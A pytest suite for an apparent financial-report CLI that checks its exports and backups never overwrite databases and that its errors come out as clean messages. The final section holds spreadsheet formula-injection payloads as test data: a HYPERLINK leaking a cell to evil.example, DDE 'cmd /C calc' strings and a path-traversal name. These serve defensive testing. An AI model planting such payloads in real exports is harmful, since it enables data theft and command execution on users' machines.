"""No command loses data: writers refuse the store and other databases, SQLite trouble is a message.

Real processes on real store files. Expected values are written out literally.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import sqlite3
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from openpyxl import load_workbook

from workbench.store import Store


def run(*args, env=None, umask=None, user=None, cwd=None):
    """``workbench ARGS`` in a fresh process; ``user`` set: as root, without permission overrides."""
    full_env = {**os.environ, "LANG": "C.UTF-8", "PYTHONIOENCODING": "utf-8", **(env or {})}
    full_env.pop("WORKBENCH_DB", None)
    cmd = [sys.executable, "-m", "workbench", *map(str, args)]
    if user is not None:
        # root bypasses file permissions: run the command as root without the capabilities that
        # do it (dac_override, dac_read_search), so the store's permission bits apply, while the
        # checkout and its venv stay readable wherever they were cloned
        cmd = ["setpriv", "--bounding-set=-dac_override,-dac_read_search", *cmd]

    def before():
        if umask is not None:
            os.umask(umask)

    return subprocess.run(cmd, capture_output=True, text=True, env=full_env, timeout=120,
                          preexec_fn=before, cwd=cwd or "/tmp")


def refused(out, *words):
    assert out.returncode == 1, (out.returncode, out.stdout, out.stderr)
    assert "Traceback" not in out.stderr, out.stderr
    for w in words:
        assert w in out.stderr, out.stderr


def is_demo_store(path: Path) -> bool:
    with Store(path) as s:
        return s.counts()["companies"] == 66 and s.counts()["issues"] == 1


# ---------------------------------------------------------------------- the store as a target
def test_export_pdf_over_the_store_is_refused_and_the_store_survives(demo_path):
    before = demo_path.read_bytes()
    out = run("export", "latest", "--db", demo_path, "-o", demo_path)
    refused(out, "open store", str(demo_path))
    assert demo_path.read_bytes() == before
    assert is_demo_store(demo_path)


@pytest.mark.parametrize("suffix", ["-wal", "-shm", "-journal"])
def test_export_over_a_companion_file_of_the_store_is_refused(demo_path, suffix):
    target = Path(str(demo_path) + suffix)
    out = run("export", "latest", "--db", demo_path, "-o", target)
    refused(out, target.name)
    assert not target.exists()
    assert is_demo_store(demo_path)


def test_export_through_a_symlink_to_the_store_is_refused(demo_path, tmp_path):
    link = tmp_path / "weekly.pdf"
    link.symlink_to(demo_path)
    before = demo_path.read_bytes()
    refused(run("export", "latest", "--db", demo_path, "-o", link), "weekly.pdf")
    assert link.is_symlink() and demo_path.read_bytes() == before


def test_export_over_a_hard_link_to_the_store_is_refused(demo_path, tmp_path):
    link = tmp_path / "weekly.pdf"
    os.link(demo_path, link)
    before = demo_path.read_bytes()
    refused(run("export", "latest", "--db", demo_path, "-o", link), "weekly.pdf")
    assert demo_path.read_bytes() == before


def test_export_over_another_store_is_refused(demo_path, tmp_path):
    other = tmp_path / "desk" / "team.db"
    other.parent.mkdir()
    shutil.copy(demo_path, other)
    before = other.read_bytes()
    refused(run("export", "latest", "--db", demo_path, "-o", other), "SQLite", "team.db")
    assert other.read_bytes() == before
    # the same for the Excel table, whatever the other store's file is called
    disguised = tmp_path / "table.xlsx"
    shutil.copy(demo_path, disguised)
    refused(run("export", "latest", "--db", demo_path, "-o", disguised), "SQLite", "table.xlsx")
    assert disguised.read_bytes() == before


def test_export_xlsx_through_a_symlink_to_the_store_is_refused(demo_path, tmp_path):
    link = tmp_path / "table.xlsx"
    link.symlink_to(demo_path)
    before = demo_path.read_bytes()
    refused(run("export", "latest", "--db", demo_path, "-o", link), "table.xlsx")
    assert demo_path.read_bytes() == before


def test_export_into_a_folder_name_is_refused(demo_path, tmp_path):
    folder = tmp_path / "out.pdf"
    folder.mkdir()
    refused(run("export", "latest", "--db", demo_path, "-o", folder), "folder")
    assert list(folder.iterdir()) == []


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_table_over_the_store_is_refused(demo_path, fmt):
    before = demo_path.read_bytes()
    refused(run("table", "companies", "--db", demo_path, "--format", fmt, "-o", demo_path), "open store")
    assert demo_path.read_bytes() == before


def test_table_over_another_store_or_its_log_is_refused(demo_path, tmp_path):
    other = tmp_path / "other.sqlite"
    shutil.copy(demo_path, other)
    before = other.read_bytes()
    refused(run("table", "quotes", "--db", demo_path, "--format", "csv", "-o", other), "SQLite")
    refused(run("table", "quotes", "--db", demo_path, "--format", "csv", "-o", str(other) + "-wal"), "other.sqlite")
    assert other.read_bytes() == before
    assert not Path(str(other) + "-wal").exists()


def test_an_ordinary_earlier_export_is_still_replaced(demo_path, tmp_path):
    target = tmp_path / "weekly.pdf"
    target.write_bytes(b"%PDF-1.4 last week's export")
    out = run("export", "latest", "--db", demo_path, "-o", target)
    assert out.returncode == 0, out.stderr
    assert target.read_bytes().startswith(b"%PDF") and b"last week" not in target.read_bytes()


# ---------------------------------------------------------------------- backup
def test_backup_over_the_store_or_its_log_is_refused(demo_path):
    before = demo_path.read_bytes()
    refused(run("backup", "--db", demo_path, "-o", demo_path, "--force"), "open store")
    refused(run("backup", "--db", demo_path, "-o", str(demo_path) + "-wal", "--force"), "-wal")
    assert demo_path.read_bytes() == before


def test_backup_replaces_an_older_backup_only_with_force(demo_path, tmp_path):
    old = tmp_path / "backup.sqlite"
    assert run("backup", "--db", demo_path, "-o", old).returncode == 0
    assert run("note", "add", "--text", "备份之后的笔记", "--db", demo_path).returncode == 0
    before = old.read_bytes()
    refused(run("backup", "--db", demo_path, "-o", old), "--force", "backup.sqlite")
    assert old.read_bytes() == before
    out = run("backup", "--db", demo_path, "-o", old, "--force")
    assert out.returncode == 0, out.stderr
    with Store(old) as s:
        assert [n["text"] for n in s.notes(query="备份之后的笔记")] == ["备份之后的笔记"]


def test_backup_never_replaces_a_store_in_use(demo_path, tmp_path):
    other = tmp_path / "colleague.sqlite"
    shutil.copy(demo_path, other)
    holder = sqlite3.connect(other)
    holder.execute("PRAGMA journal_mode = WAL")
    holder.execute("BEGIN IMMEDIATE")
    holder.execute("CREATE TABLE mine (x)")
    try:
        refused(run("backup", "--db", demo_path, "-o", other, "--force"), "in use", "colleague.sqlite")
    finally:
        holder.execute("ROLLBACK")
        holder.close()


def test_backup_over_an_ordinary_file_needs_force(demo_path, tmp_path):
    notes = tmp_path / "notes.txt"
    notes.write_text("my notes", encoding="utf-8")
    refused(run("backup", "--db", demo_path, "-o", notes), "--force", "notes.txt")
    assert notes.read_text(encoding="utf-8") == "my notes"


# ---------------------------------------------------------------------- permissions
def test_exports_get_the_users_normal_permissions(demo_path, tmp_path):
    pdf, xlsx, table, backup = (tmp_path / n for n in ("w.pdf", "w.xlsx", "c.csv", "b.sqlite"))
    assert run("export", "latest", "--db", demo_path, "-o", pdf, umask=0o022).returncode == 0
    assert run("export", "latest", "--db", demo_path, "-o", xlsx, umask=0o027).returncode == 0
    assert run("table", "companies", "--db", demo_path, "-o", table, umask=0o002).returncode == 0
    assert run("backup", "--db", demo_path, "-o", backup, umask=0o022).returncode == 0
    assert oct(pdf.stat().st_mode & 0o777) == "0o644"
    assert oct(xlsx.stat().st_mode & 0o777) == "0o640"
    assert oct(table.stat().st_mode & 0o777) == "0o664"
    assert oct(backup.stat().st_mode & 0o777) == "0o644"


def test_the_record_folder_gets_normal_permissions(demo_path, tmp_path):
    assert run("status", "1", "review", "--db", demo_path).returncode == 0
    assert run("status", "1", "final", "--db", demo_path).returncode == 0
    out_dir = tmp_path / "records"
    out_dir.mkdir()
    assert run("record", "1", "--db", demo_path, "-o", out_dir, umask=0o022).returncode == 0
    (folder,) = out_dir.iterdir()
    assert oct(folder.stat().st_mode & 0o777) == "0o755"
    assert oct((folder / "v1.pdf").stat().st_mode & 0o777) == "0o644"


# ---------------------------------------------------------------------- record folder names
def _finalise_with_series(demo_path, series):
    with Store(demo_path) as s:
        s.db.execute("UPDATE issues SET series = ? WHERE id = 1", [series])
    assert run("status", "1", "review", "--db", demo_path).returncode == 0
    out = run("status", "1", "final", "--db", demo_path)
    assert out.returncode == 0, out.stderr


@pytest.mark.parametrize("series, expected", [
    ("../../逃逸/周报", "_.._逃逸_周报_20241223-20241229_#1"),
    ("a\\b:c*d?e\"f<g>h|i", "a_b_c_d_e_f_g_h_i_20241223-20241229_#1"),
])
def test_record_never_writes_outside_its_folder(demo_path, tmp_path, series, expected):
    _finalise_with_series(demo_path, series)
    out_dir = tmp_path / "a" / "b" / "records"
    out_dir.mkdir(parents=True)
    out = run("record", "1", "--db", demo_path, "-o", out_dir)
    assert out.returncode == 0, out.stderr
    assert [p.name for p in out_dir.iterdir()] == [expected]
    assert sorted(p.name for p in (tmp_path / "a").iterdir()) == ["b"]
    assert sorted(p.name for p in (tmp_path / "a" / "b").iterdir()) == ["records"]


def test_record_folder_name_is_no_windows_device(demo_path, tmp_path):
    _finalise_with_series(demo_path, "CON")
    out = run("record", "1", "--db", demo_path, "-o", tmp_path)
    assert out.returncode == 0, out.stderr
    assert (tmp_path / "CON_20241223-20241229_#1").is_dir()


# ---------------------------------------------------------------------- another program's database
@pytest.fixture
def foreign_db(tmp_path):
    """Another program's SQLite database (say a browser's history), in rollback-journal mode."""
    path = tmp_path / "places.sqlite"
    conn = sqlite3.connect(path)
    conn.execute("CREATE TABLE moz_places (id INTEGER PRIMARY KEY, url TEXT)")
    conn.execute("INSERT INTO moz_places (url) VALUES ('https://example.com/')")
    conn.commit()
    conn.close()
    return path


def test_demo_never_replaces_another_programs_database(foreign_db):
    before = foreign_db.read_bytes()
    for args in (("demo", "--db", foreign_db), ("demo", "--db", foreign_db, "--force")):
        refused(run(*args), "another program's database", "places.sqlite")
    assert foreign_db.read_bytes() == before


def test_reading_another_programs_database_adds_no_tables_to_it(foreign_db, tmp_path):
    before = foreign_db.read_bytes()
    refused(run("table", "companies", "--db", foreign_db), "another program's database")
    refused(run("note", "add", "--text", "x", "--db", foreign_db), "another program's database")
    assert foreign_db.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["places.sqlite"]


# ---------------------------------------------------------------------- demo --force
def test_demo_force_refuses_a_store_holding_a_published_issue(demo_path):
    assert run("status", "1", "review", "--db", demo_path).returncode == 0
    assert run("status", "1", "final", "--db", demo_path).returncode == 0
    before = demo_path.read_bytes()
    out = run("demo", "--db", demo_path, "--force")
    refused(out, "#1", "published")
    assert demo_path.read_bytes() == before


def test_demo_force_refuses_a_store_with_a_published_version_even_when_reopened(demo_path):
    assert run("status", "1", "review", "--db", demo_path).returncode == 0
    assert run("status", "1", "final", "--db", demo_path).returncode == 0
    assert run("correct", "1", "--reason", "数据更正", "--db", demo_path).returncode == 0
    refused(run("demo", "--db", demo_path, "--force"), "#1")
    with Store(demo_path) as s:
        assert len(s.versions(1)) == 1 and s.issue(1).status == "draft"


def test_demo_force_refuses_a_store_open_in_another_program(demo_path):
    with Store(demo_path) as app:  # the app has it open (its -wal file is beside it)
        app.db.execute("UPDATE issues SET headline = '正在编辑' WHERE id = 1")
        refused(run("demo", "--db", demo_path, "--force"), "in use", "demo.sqlite")
        assert app.issue(1).headline == "正在编辑"


def test_demo_force_still_replaces_a_store_of_drafts(demo_path):
    with Store(demo_path) as s:
        s.db.execute("UPDATE issues SET headline = '草稿标题' WHERE id = 1")
    out = run("demo", "--db", demo_path, "--force")
    assert out.returncode == 0, out.stderr
    with Store(demo_path) as s:
        assert s.issue(1).headline != "草稿标题"


# ---------------------------------------------------------------------- SQLite trouble
def test_a_locked_store_is_a_message_after_the_busy_timeout(demo_path):
    with Store(demo_path) as s:
        notes_before = s.notes()
    holder = sqlite3.connect(demo_path, isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")
    try:
        started = time.monotonic()
        out = run("note", "add", "--text", "被锁住", "--db", demo_path, env={"WORKBENCH_BUSY_TIMEOUT_MS": "300"})
        elapsed = time.monotonic() - started
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    refused(out, "locked", str(demo_path))
    assert elapsed < 8
    with Store(demo_path) as s:
        assert s.notes() == notes_before


def test_a_second_writer_waits_for_the_first(demo_path):
    holder = sqlite3.connect(demo_path, isolation_level=None, check_same_thread=False)
    holder.execute("BEGIN IMMEDIATE")
    releaser = threading.Timer(1.0, lambda: holder.execute("COMMIT"))
    releaser.start()
    try:
        out = run("note", "add", "--text", "等一下", "--db", demo_path, env={"WORKBENCH_BUSY_TIMEOUT_MS": "20000"})
    finally:
        releaser.join()
        holder.close()
    assert out.returncode == 0, out.stderr
    with Store(demo_path) as s:
        assert [n["text"] for n in s.notes(query="等一下")] == ["等一下"]


def test_an_issue_id_out_of_range_is_a_message(demo_path, tmp_path):
    for args in (("export", "99999999999999999999", "--db", demo_path, "-o", tmp_path / "x.pdf"),
                 ("check", "-99999999999999999999", "--db", demo_path),
                 ("status", "99999999999999999999", "review", "--db", demo_path)):
        refused(run(*args), "99999999999999999999")
    assert not (tmp_path / "x.pdf").exists()


def test_an_analyst_id_out_of_range_is_a_message(demo_path):
    refused(run("analyst", "edit", "99999999999999999999", "--name", "某人", "--db", demo_path),
            "#99999999999999999999")


def _race(demo_path, *args):
    """Two processes run the same command; a third connection holds the write lock until both
    are up and waiting, so both start from the same state and then go one after the other."""
    env = {**os.environ, "LANG": "C.UTF-8", "PYTHONIOENCODING": "utf-8", "WORKBENCH_BUSY_TIMEOUT_MS": "60000"}
    env.pop("WORKBENCH_DB", None)
    holder = sqlite3.connect(demo_path, isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")
    try:
        procs = [subprocess.Popen([sys.executable, "-m", "workbench", *args, "--db", str(demo_path),
                                   "--by", f"editor{i}"],
                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env)
                 for i in range(2)]
        time.sleep(4)  # both processes have started and wait for the lock
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    return [(p.wait(timeout=120), p.stderr.read()) for p in procs]


def test_two_corrections_racing_open_one_new_version(demo_path):
    assert run("status", "1", "review", "--db", demo_path).returncode == 0
    assert run("status", "1", "final", "--db", demo_path).returncode == 0
    results = _race(demo_path, "correct", "1", "--reason", "数据更正")
    assert sorted(code for code, _ in results) == [0, 1], results
    loser = next(err for code, err in results if code == 1)
    assert "Traceback" not in loser and "not final" in loser
    with Store(demo_path) as s:
        assert s.issue(1).version == 2
        assert [(r["from_status"], r["to_status"], r["version"]) for r in s.issue_log(1)] == [
            ("draft", "review", 1), ("review", "final", 1), ("final", "draft", 2)]


def test_two_status_final_racing_give_one_version(demo_path):
    assert run("status", "1", "review", "--db", demo_path).returncode == 0
    results = _race(demo_path, "status", "1", "final")
    codes = sorted(code for code, _ in results)
    assert codes == [0, 1], results
    loser = next(err for code, err in results if code == 1)
    assert "Traceback" not in loser and "already final" in loser
    with Store(demo_path) as s:
        assert [v["version"] for v in s.versions(1)] == [1]
        assert [r["to_status"] for r in s.issue_log(1)] == ["review", "final"]


def test_a_full_disk_is_a_message_and_the_store_is_unchanged(demo_path, monkeypatch, capsys):
    """Disk full is simulated with PRAGMA max_page_count on every connection the command opens."""
    import workbench.store.store as store_module
    from workbench.cli import main

    real_init = store_module.Store.__init__

    def full(self, path):
        real_init(self, path)
        pages = self.db.execute("PRAGMA page_count").fetchone()[0]
        self.db.execute(f"PRAGMA max_page_count = {pages}")

    with Store(demo_path) as s:
        notes_before = s.notes()
    monkeypatch.setattr(store_module.Store, "__init__", full)
    big = "满" * 200_000
    assert main(["note", "add", "--text", big, "--db", str(demo_path)]) == 1
    err = capsys.readouterr().err
    assert "disk is full" in err and str(demo_path) in err and "Traceback" not in err
    monkeypatch.setattr(store_module.Store, "__init__", real_init)
    with Store(demo_path) as s:
        assert s.notes() == notes_before


# ---------------------------------------------------------------------- read-only stores
@pytest.fixture
def other_user_dir():
    """A folder anyone may write in; as root the command runs without permission overrides."""
    root = Path(__import__("tempfile").mkdtemp(prefix="wb-ro-", dir="/tmp"))
    os.chmod(root, 0o777)
    yield root
    for p in [root, *root.rglob("*")]:
        os.chmod(p, 0o777 if p.is_dir() else 0o666)
    shutil.rmtree(root)


def _as_reader():
    """As root, run the command so that file permissions apply to it (see ``run``)."""
    return "no-permission-override" if os.geteuid() == 0 else None


def _read_only_store(demo_path, folder: Path, *, folder_read_only: bool) -> Path:
    store_dir = folder / "store"
    store_dir.mkdir()
    db = store_dir / "demo.sqlite"
    shutil.copy(demo_path, db)
    os.chmod(db, 0o444)
    if folder_read_only:
        os.chmod(store_dir, 0o555)
    else:
        os.chmod(store_dir, 0o777)
    return db


@pytest.mark.parametrize("folder_read_only", [True, False], ids=["read-only folder", "read-only file"])
def test_a_read_only_store_can_still_be_read_and_exported(demo_path, other_user_dir, folder_read_only):
    db = _read_only_store(demo_path, other_user_dir, folder_read_only=folder_read_only)
    before = db.read_bytes()
    user = _as_reader()
    out = run("table", "companies", "--db", db, user=user)
    assert out.returncode == 0, out.stderr
    assert "300493.SZ" in out.stdout
    check = run("check", "latest", "--db", db, user=user)
    assert check.returncode == 0, check.stdout + check.stderr
    pdf = other_user_dir / "weekly.pdf"
    exported = run("export", "latest", "--db", db, "-o", pdf, user=user)
    assert exported.returncode == 0, exported.stderr
    assert pdf.read_bytes().startswith(b"%PDF")
    assert run("diff", "1", "1", "--db", db, user=user).returncode == 0
    traced = run("trace", "300493.SZ", "revenue", "2023A", "--db", db, user=user)
    assert traced.returncode == 0, traced.stderr
    assert "300493.SZ 润欣科技 营业收入 (revenue) 2023A: 21.6 亿元" in traced.stdout
    assert db.read_bytes() == before


@pytest.mark.parametrize("folder_read_only", [True, False], ids=["read-only folder", "read-only file"])
def test_a_write_to_a_read_only_store_is_a_message(demo_path, other_user_dir, folder_read_only):
    db = _read_only_store(demo_path, other_user_dir, folder_read_only=folder_read_only)
    before = db.read_bytes()
    out = run("note", "add", "--text", "只读", "--db", db, user=_as_reader())
    refused(out, "read-only", "demo.sqlite")
    assert db.read_bytes() == before


# ---------------------------------------------------------------------- formulas in exports
HOSTILE = {"600001.SH": '=HYPERLINK("http://evil.example/?"&A1,"点我")', "600002.SH": "+cmd|' /C calc'!A0",
           "600003.SH": "@SUM(1+1)*cmd|' /C calc'!A0", "600004.SH": "-2+3+cmd|' /C calc'!A0",
           "600005.SH": "\t=1+1", "600006.SH": "\r=1+1"}


@pytest.fixture
def hostile_store(tmp_path):
    db = tmp_path / "hostile.sqlite"
    with Store(db) as s:
        s.upsert_companies([{"ticker": t, "name": n, "segment": "=段"} for t, n in HOSTILE.items()])
        s.write_facts([("600001.SH", "revenue_yoy", "2023A", -0.05)])
    return db


def test_table_xlsx_writes_formula_text_as_inert_text(hostile_store, tmp_path):
    out = tmp_path / "companies.xlsx"
    result = run("table", "companies", "--db", hostile_store, "-o", out)
    assert result.returncode == 0, result.stderr
    ws = load_workbook(out).active
    rows = list(ws.iter_rows(min_row=2))
    # XML reads a bare CR back as LF: the CR cell is the one text cell that comes back changed
    assert {r[0].value: r[1].value for r in rows} == {**HOSTILE, "600006.SH": "\n=1+1"}
    assert [c.coordinate for r in ws.iter_rows() for c in r if c.data_type == "f"] == []
    facts = tmp_path / "financials.xlsx"
    assert run("table", "financials", "--db", hostile_store, "-o", facts).returncode == 0
    cell = load_workbook(facts).active["E2"]
    assert (cell.value, cell.data_type) == (-0.05, "n")


def test_table_csv_prefixes_formula_text_and_keeps_negative_numbers(hostile_store, tmp_path):
    target = tmp_path / "companies.csv"
    out = run("table", "companies", "--db", hostile_store, "-o", target)
    assert out.returncode == 0, out.stderr
    rows = list(csv.reader(io.StringIO(target.read_bytes().decode("utf-8-sig"), newline="")))
    assert rows[1:] == [
        ["600001.SH", '\'=HYPERLINK("http://evil.example/?"&A1,"点我")', "", "'=段", ""],
        ["600002.SH", "'+cmd|' /C calc'!A0", "", "'=段", ""],
        ["600003.SH", "'@SUM(1+1)*cmd|' /C calc'!A0", "", "'=段", ""],
        ["600004.SH", "'-2+3+cmd|' /C calc'!A0", "", "'=段", ""],
        ["600005.SH", "'\t=1+1", "", "'=段", ""],
        ["600006.SH", "'\r=1+1", "", "'=段", ""],
    ]
    facts = run("table", "financials", "--db", hostile_store, "--format", "csv")
    assert facts.returncode == 0, facts.stderr
    assert facts.stdout.splitlines()[1] == '600001.SH,"\'=HYPERLINK(""http://evil.example/?""&A1,""点我"")",2023A,revenue_yoy,-0.05,'  # no as-of date


def test_record_status_log_csv_keeps_formula_text_inert(demo_path, tmp_path):
    assert run("status", "1", "review", "--db", demo_path, "--by", "=cmd|' /C calc'!A0").returncode == 0
    assert run("status", "1", "final", "--db", demo_path, "--by", "王编辑", "--reason", "@SUM(A1)").returncode == 0
    assert run("record", "1", "--db", demo_path, "-o", tmp_path).returncode == 0
    (folder,) = [p for p in tmp_path.iterdir() if p.is_dir()]
    rows = list(csv.reader(io.StringIO((folder / "status_log.csv").read_text(encoding="utf-8-sig"))))
    assert [r[1] for r in rows[1:]] == ["'=cmd|' /C calc'!A0", "王编辑"]
    assert [r[5] for r in rows[1:]] == ["", "'@SUM(A1)"]


def test_comparison_table_xlsx_keeps_formula_names_inert_and_numbers_numeric(demo_path, tmp_path):
    hostile = '=HYPERLINK("http://evil.example/","润欣科技")'
    with Store(demo_path) as s:
        s.set_company_field("300493.SZ", "name", hostile)
    out = tmp_path / "table.xlsx"
    result = run("export", "latest", "--db", demo_path, "-o", out)
    assert result.returncode == 0, result.stderr
    ws = load_workbook(out).active
    cells = [c for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    (name,) = [c for c in cells if c.value == hostile]
    assert name.data_type == "s"
    row = [c.value for c in ws[name.row]]
    assert row[1] == "300493.SZ"
    assert -0.3415 in row  # the 2023 net profit growth, a negative number, stays a number
    assert [c.data_type for c in ws[name.row] if c.value == -0.3415] == ["n"]
